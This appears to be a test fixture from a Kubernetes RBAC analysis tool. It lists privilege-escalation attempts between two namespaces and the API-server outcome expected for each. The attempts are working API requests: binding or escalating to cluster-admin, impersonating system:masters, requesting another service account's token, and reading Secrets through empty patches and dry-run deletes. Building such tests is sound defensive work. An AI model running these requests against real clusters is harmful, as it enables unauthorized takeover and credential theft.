import { dig, type FootholdId, type JsonObject, toFootholdId } from "../../src/model/index.ts";

export const RBAC = "/apis/rbac.authorization.k8s.io/v1";
const GROUP = "rbac.authorization.k8s.io";
const EVERYTHING = [{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }];
const ADMIN = toFootholdId("target", "cluster-admin");

export interface Holder {
  readonly name: string;
  readonly token: string;
}

/** What a holder of some rules tries, and what it would have by it. */
export interface Attempt {
  readonly does: string;
  readonly rules: readonly JsonObject[];
  /** Undefined: everywhere. */
  readonly namespace?: string;
  readonly gains: FootholdId;
  /** Whether the API server lets it. */
  readonly works: boolean;
  readonly try: (holder: Holder) => Promise<boolean>;
}

function rule(group: string, resource: string, verbs: string, name?: string): JsonObject {
  const names = name === undefined ? {} : { resourceNames: [name] };
  return { apiGroups: [group], resources: resource.split(","), verbs: verbs.split(","), ...names };
}

/** Sends one request as the holder. */
export type Send = (
  holder: Holder,
  method: string,
  path: string,
  body?: unknown,
  headers?: Record<string, string>,
) => Promise<{ readonly status: number; readonly text: string }>;

export const TOKEN_REQUEST = { apiVersion: "authentication.k8s.io/v1", kind: "TokenRequest", spec: {} };

/** Ways to more power, as somebody in namespace home would go them against namespace shop. */
export function toAttempts(send: Send): readonly Attempt[] {
  const merge = { "content-type": "application/merge-patch+json" };
  const patch = async (holder: Holder, path: string, body: unknown): Promise<boolean> =>
    (await send(holder, "PATCH", path, body, merge)).status === 200;

  /** Whether the holder may do everything now; the authorizer sees a change after a moment. */
  async function isAdmin(holder: Holder, headers: Record<string, string> = {}): Promise<boolean> {
    for (let tries = 0; tries < 20; tries += 1) {
      if ((await send(holder, "GET", "/api/v1/nodes", undefined, headers)).status === 200) return true;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    return false;
  }

  const bindAdmin = async (holder: Holder): Promise<boolean> => {
    const body = {
      metadata: { name: `${holder.name}-admin` },
      roleRef: { apiGroup: GROUP, kind: "ClusterRole", name: "cluster-admin" },
      subjects: [{ kind: "ServiceAccount", name: holder.name, namespace: "home" }],
    };
    return (await send(holder, "POST", `${RBAC}/clusterrolebindings`, body)).status === 201 && (await isAdmin(holder));
  };
  const raise = async (holder: Holder): Promise<boolean> =>
    (await patch(holder, `${RBAC}/clusterroles/${holder.name}`, { rules: EVERYTHING })) && (await isAdmin(holder));
  const asks =
    (path: string, method = "GET") =>
    async (holder: Holder): Promise<boolean> =>
      (await send(holder, method, path)).text.includes("aHVzaA==");
  const tokenPath = "/api/v1/namespaces/shop/serviceaccounts/vault/token";
  const DB = toFootholdId("secret", "shop", "db");
  const VAULT = toFootholdId("identity", "ServiceAccount", "shop", "vault");
  const SECRETS = "/api/v1/namespaces/shop/secrets";

  return [
    {
      does: "escalates its own role",
      rules: [rule(GROUP, "clusterroles", "escalate,patch")],
      gains: ADMIN,
      works: true,
      try: raise,
    },
    {
      does: "changes its own role without escalate",
      rules: [rule(GROUP, "clusterroles", "patch,update,create")],
      gains: ADMIN,
      works: false,
      try: raise,
    },
    {
      does: "puts the aggregation label on cluster-admin without escalate",
      rules: [rule(GROUP, "clusterroles", "patch,update")],
      gains: ADMIN,
      works: false,
      try: (holder) =>
        patch(holder, `${RBAC}/clusterroles/cluster-admin`, {
          metadata: { labels: { "rbac.authorization.k8s.io/aggregate-to-view": "true" } },
        }),
    },
    {
      does: "binds cluster-admin",
      rules: [rule(GROUP, "clusterroles", "bind", "cluster-admin"), rule(GROUP, "clusterrolebindings", "create")],
      gains: ADMIN,
      works: true,
      try: bindAdmin,
    },
    {
      does: "binds cluster-admin without bind",
      rules: [rule(GROUP, "clusterrolebindings", "create,update,patch")],
      gains: ADMIN,
      works: false,
      try: bindAdmin,
    },
    {
      does: "impersonates a group as some user",
      rules: [rule("", "groups", "impersonate"), rule("", "users", "impersonate", "nobody")],
      gains: ADMIN,
      works: true,
      try: (holder) => isAdmin(holder, { "impersonate-user": "nobody", "impersonate-group": "system:masters" }),
    },
    {
      does: "impersonates a group as nobody",
      rules: [rule("", "groups", "impersonate")],
      gains: ADMIN,
      works: false,
      try: (holder) => isAdmin(holder, { "impersonate-group": "system:masters" }),
    },
    {
      does: "requests a token",
      rules: [rule("", "serviceaccounts/token", "create", "vault")],
      namespace: "shop",
      gains: VAULT,
      works: true,
      try: async (holder) => (await send(holder, "POST", tokenPath, TOKEN_REQUEST)).status === 201,
    },
    {
      does: "requests the token of another account than it may",
      rules: [rule("", "serviceaccounts/token", "create", "default")],
      namespace: "shop",
      gains: VAULT,
      works: false,
      try: async (holder) => (await send(holder, "POST", tokenPath, TOKEN_REQUEST)).status === 201,
    },
    {
      does: "creates a Secret for a token and reads it by a patch",
      rules: [rule("", "secrets", "create"), rule("", "secrets", "patch", "stolen")],
      namespace: "shop",
      gains: VAULT,
      works: true,
      try: async (holder) => {
        const metadata = { name: "stolen", annotations: { "kubernetes.io/service-account.name": "vault" } };
        await send(holder, "POST", SECRETS, { metadata, type: "kubernetes.io/service-account-token" });
        for (let tries = 0; tries < 50; tries += 1) {
          const { text } = await send(holder, "PATCH", `${SECRETS}/stolen`, {}, merge);
          if (dig(JSON.parse(text), "data", "token") !== undefined) return true;
          await new Promise((resolve) => setTimeout(resolve, 100));
        }
        return false;
      },
    },
    {
      does: "reads a Secret by an empty patch",
      rules: [rule("", "secrets", "patch", "db")],
      namespace: "shop",
      gains: DB,
      works: true,
      try: async (holder) => (await send(holder, "PATCH", `${SECRETS}/db`, {}, merge)).text.includes("aHVzaA=="),
    },
    {
      does: "reads Secrets by deleting all of them in a dry run",
      rules: [rule("", "secrets", "deletecollection")],
      namespace: "shop",
      gains: DB,
      works: true,
      try: asks(`${SECRETS}?dryRun=All`, "DELETE"),
    },
    {
      does: "reads a Secret by deleting it in a dry run",
      rules: [rule("", "secrets", "delete")],
      namespace: "shop",
      gains: DB,
      works: false,
      try: asks(`${SECRETS}/db?dryRun=All`, "DELETE"),
    },
    {
      does: "reads a Secret by replacing it in a dry run",
      rules: [rule("", "secrets", "update")],
      namespace: "shop",
      gains: DB,
      works: false,
      try: async (holder) =>
        (
          await send(holder, "PUT", `${SECRETS}/db?dryRun=All`, {
            apiVersion: "v1",
            kind: "Secret",
            metadata: { name: "db" },
          })
        ).text.includes("aHVzaA=="),
    },
    {
      does: "lists one Secret by its name",
      rules: [rule("", "secrets", "list", "db")],
      namespace: "shop",
      gains: DB,
      works: true,
      try: asks(`${SECRETS}?fieldSelector=metadata.name%3Ddb`),
    },
    {
      does: "creates a pod it may create and patch by name",
      rules: [rule("", "pods", "create,patch", "web")],
      namespace: "shop",
      gains: VAULT,
      works: true,
      try: (holder) => applyPod(holder),
    },
    {
      does: "creates a pod it may only create by name",
      rules: [rule("", "pods", "create", "web")],
      namespace: "shop",
      gains: VAULT,
      works: false,
      try: (holder) => applyPod(holder),
    },
    {
      does: "takes Pod Security off its namespace as its administrator",
      rules: EVERYTHING,
      namespace: "shop",
      gains: toFootholdId("right", "start-privileged-pods", "*"),
      works: true,
      try: (holder) =>
        patch(holder, "/api/v1/namespaces/shop?dryRun=All", {
          metadata: { labels: { "pod-security.kubernetes.io/enforce": null } },
        }),
    },
  ];

  async function applyPod(holder: Holder): Promise<boolean> {
    const securityContext = {
      allowPrivilegeEscalation: false,
      runAsNonRoot: true,
      seccompProfile: { type: "RuntimeDefault" },
      capabilities: { drop: ["ALL"] },
    };
    const spec = {
      serviceAccountName: "vault",
      containers: [{ name: "c", image: "registry.example/x:1", securityContext }],
    };
    const pod = { apiVersion: "v1", kind: "Pod", metadata: { name: "web" }, spec };
    const apply = { "content-type": "application/apply-patch+yaml" };
    const path = "/api/v1/namespaces/shop/pods/web?fieldManager=test&dryRun=All";
    return (await send(holder, "PATCH", path, pod, apply)).status === 201;
  }
}
